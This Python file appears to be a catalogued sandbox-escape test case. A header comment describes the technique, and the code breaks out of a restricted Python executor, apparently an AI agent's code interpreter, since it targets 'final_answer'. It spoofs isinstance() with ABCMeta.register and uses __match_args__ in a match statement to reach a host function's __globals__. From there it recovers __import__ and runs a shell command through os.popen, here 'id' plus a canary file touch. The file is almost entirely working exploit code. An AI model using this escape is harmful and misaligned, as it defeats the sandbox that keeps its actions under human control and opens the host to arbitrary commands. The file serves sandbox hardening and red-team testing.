# Technique: structural pattern matching reads attributes named by __match_args__ with the real getattr; an ABC
#            subclass registered as the virtual base of a host callable makes isinstance() true, and its
#            __match_args__ names __globals__ - no dunder attribute access appears in the AST
# Goal: d (run a shell command)
# Source: written for codeloop (match statement + ABCMeta.register); classic pyjail isinstance spoofing
# Requires: stdlib (collections.abc, in the default allow-list)
import collections.abc


class Spoof(collections.abc.Hashable):
    __match_args__ = ("__globals__",)

    def __hash__(self):
        return 0


def probe():
    return None


try:
    target = final_answer
except NameError:
    target = probe
Spoof.register(type(target))
match target:
    case Spoof(host_globals):
        builtins_ns = host_globals["__builtins__"]
        importer = (
            builtins_ns["__import__"]
            if isinstance(builtins_ns, dict)
            else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
        )
        print(importer("os").popen("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
